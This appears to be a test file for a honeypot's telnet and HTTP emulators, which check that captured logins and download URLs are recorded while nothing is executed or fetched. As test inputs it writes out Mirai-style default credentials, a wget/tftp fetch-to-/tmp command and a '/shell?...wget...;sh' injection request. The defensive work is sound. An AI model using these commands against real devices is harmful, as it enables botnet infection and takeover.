import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { tcpProtocols } from '../protocols.ts'
import { talkTo } from '../talk-to.fixture.ts'

const protocol = (name: string) => tcpProtocols.get(name)!

describe('telnet', () => {
  test('takes logins, lets the second in, runs nothing, and notes what was to be fetched', () => {
    const { out, said, ended } = talkTo(protocol('telnet'), '\xff\xfd\x03root\r\n', 'xc3511\r\n', 'admin\r\0', 'admin\n',
      'enable\r\n/bin/busybox MIRAI\r\n', 'cd /tmp; wget http://198.51.100.9/x.sh; tftp -g -r y 198.51.100.9\r\n', 'exit\r\n')
    assert.match(out[0]!.toString('latin1'), /gateway login: $/)
    assert.match(out[2]!.toString('latin1'), /Login incorrect/)
    assert.match(out[5]!.toString('latin1'), /MIRAI: applet not found/)
    assert.deepEqual(said.logins, [{ user: 'root', password: 'xc3511' }, { user: 'admin', password: 'admin' }])
    assert.deepEqual(said.urls, ['http://198.51.100.9/x.sh', 'tftp://198.51.100.9/y'])
    assert.equal(said.facts['telnet.options'], '253:3')
    assert.match(said.facts['telnet.commands']!, /^enable \| \/bin\/busybox MIRAI \| cd/)
    assert.equal(said.handshake, 'dialogue')
    assert.ok(ended)
  })

  test('one that says nothing has shown only that it is there; options cut anywhere read alike', () => {
    assert.equal(talkTo(protocol('telnet'), 'root\r\n').said.handshake, 'completed')
    const bytes = '\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0a\xff\xffb\r\npw\r\n'
    const whole = talkTo(protocol('telnet'), bytes)
    assert.deepEqual(talkTo(protocol('telnet'), ...bytes).said, whole.said)
    assert.equal(whole.said.logins[0]!.password, 'pw')
  })
})

describe('http', () => {
  test('answers as a small device does and notes path, agent and sign-ins', () => {
    const { out, said } = talkTo(protocol('http'), 'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: zgrab/0.x\r\n\r\n',
      'POST /login HTTP/1.1\r\nHost: x.example\r\nContent-Length: 29\r\n\r\nusername=adm', 'in&password=a%40b',
      'HEAD /admin HTTP/1.1\r\nAuthorization: Basic cm9vdDpwOnc=\r\n\r\n')
    assert.match(out[1]!.toString(), /^HTTP\/1\.1 200 OK\r\n[^]*Content-Length: \d+\r\n[^]*<form/)
    assert.equal(out[2]!.length, 0)
    assert.match(out[4]!.toString(), /^HTTP\/1\.1 401 [^]*WWW-Authenticate: Basic[^]*\r\n\r\n$/)
    assert.deepEqual(said.logins, [{ user: 'admin', password: 'a@b' }, { user: 'root', password: 'p:w' }])
    assert.equal(said.facts['http.path'], '/ | /login | /admin')
    assert.equal(said.facts['http.host'], '(an address) | x.example')
  })

  test('fetches and proxies nothing, but keeps what it was asked to', () => {
    const { out, said, ended } = talkTo(protocol('http'), 'GET http://198.51.100.1/ HTTP/1.0\r\n\r\n')
    assert.match(out[1]!.toString(), /^HTTP\/1\.1 403 /)
    assert.deepEqual(said.urls, ['http://198.51.100.1/'])
    assert.ok(ended)
    const shell = talkTo(protocol('http'), 'GET /shell?cd+/tmp;wget+http%3A%2F%2F198.51.100.2/bin;sh HTTP/1.1\r\n\r\n')
    assert.deepEqual(shell.said.urls.slice(1), ['http://198.51.100.2/bin'])
  })

  test('what is no HTTP, or too long, ends with an error', () => {
    assert.match(talkTo(protocol('http'), 'hello\r\n\r\n').out[1]!.toString(), /^HTTP\/1\.1 400 /)
    const long = talkTo(protocol('http'), `GET / HTTP/1.1\r\nX: ${'x'.repeat(9000)}`)
    assert.match(long.out[1]!.toString(), /^HTTP\/1\.1 431 /)
    assert.ok(long.ended)
  })
})

test('a port without a protocol waits, listens, and knows who speaks first', () => {
  const { out, said } = talkTo(protocol('any'), '\x01\x02\x03')
  assert.equal(Buffer.concat(out).length, 0)
  assert.deepEqual([said.protocol, said.handshake], ['any', 'completed'])
  const recognised = talkTo(protocol('any'), 'GET /x HTTP/1.1\r\n\r\n')
  assert.deepEqual([recognised.said.protocol, recognised.said.handshake], ['http', 'dialogue'])
})
